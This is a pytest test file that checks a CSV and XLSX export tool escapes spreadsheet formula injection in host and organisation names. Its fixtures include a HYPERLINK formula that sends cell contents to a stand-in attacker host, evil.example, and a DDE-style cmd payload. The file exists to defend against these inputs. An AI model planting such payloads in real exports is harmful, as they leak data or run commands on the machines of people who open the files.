"""Formula cells (issue 11, failure 5): a host or organization named like a spreadsheet formula comes out as
text in every table a spreadsheet opens — `--format csv`, the package CSVs, the web export and report.xlsx."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.conftest import write_jsonl
from tests.test_cli import KES, run
from tests.test_requests import GOOD
from vendorscope.safe_csv import safe_cell, write_rows

HOST = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ORG = "@SUM(1+1)*cmd|' /C calc'!A0"
REGISTRY = f"""id,name,kind,parent,contract,uei,cage,country
agency,Agency,agency,,,,,US
evil,"{ORG.replace('"', '""')}",contractor,agency,C-1,,,US
"""


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("ws-1", "ws-1"),
        ("a=b", "a=b"),
        (None, ""),
        (-1, -1),
        (0.5, 0.5),
        (True, True),
    ],
)
def test_the_owasp_rule(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


def test_write_rows_quotes_every_cell_but_not_the_header() -> None:
    buffer = io.StringIO()
    write_rows(buffer, ["host", "n"], [{"host": HOST, "n": -2}, {"host": "ws-1"}])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["host", "n"], ["'" + HOST, "-2"], ["ws-1", ""]]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def formulas(values: list[object]) -> list[object]:
    """Cells a spreadsheet would evaluate."""
    return [v for v in values if isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_formula_names_are_text_in_cli_csv_and_the_package(tmp_path: Path) -> None:
    write_jsonl(tmp_path / "inv.jsonl", [{"host": HOST, **KES}, {"host": "ws-2", **KES}])
    (tmp_path / "orgs.csv").write_text(REGISTRY, encoding="utf-8")
    (tmp_path / "hosts.csv").write_text(f'host,org\n"{HOST.replace(chr(34), chr(34) * 2)}",evil\n', encoding="utf-8")
    ingested = run("--db", "s.db", "ingest", "orgs.csv", "hosts.csv", "inv.jsonl", cwd=tmp_path)
    assert ingested.returncode == 0, ingested.stderr

    found = run("--db", "s.db", "findings", "--format", "csv", cwd=tmp_path)
    assert found.returncode == 0, found.stderr
    assert "'" + HOST in cells(found.stdout) and not formulas(cells(found.stdout))
    hosts = run("--db", "s.db", "hosts", "--format", "csv", cwd=tmp_path)
    assert "'" + HOST in cells(hosts.stdout) and not formulas(cells(hosts.stdout))
    exposure = run("--db", "s.db", "exposure", "--by", "contractor", "--format", "csv", cwd=tmp_path)
    assert exposure.returncode == 0, exposure.stderr
    assert not formulas(cells(exposure.stdout))

    (tmp_path / "request.yaml").write_text(GOOD, encoding="utf-8")
    answered = run("--db", "s.db", "respond", "request.yaml", "--out", "pkg", cwd=tmp_path)
    assert answered.returncode == 0, answered.stderr
    package = tmp_path / "pkg"
    systems = (package / "systems.csv").read_text(encoding="utf-8")
    coverage = (package / "coverage.csv").read_text(encoding="utf-8")
    contractors = (package / "contractors.csv").read_text(encoding="utf-8")
    assert "'" + HOST in cells(systems) and "'" + HOST in cells(coverage)
    assert any(ORG in cell for cell in cells(contractors))
    for text in (systems, coverage, contractors):
        assert not formulas(cells(text))
    book = load_workbook(package / "report.xlsx")
    values = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert "'" + HOST in values
    assert not formulas(values)
    assert all(cell.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
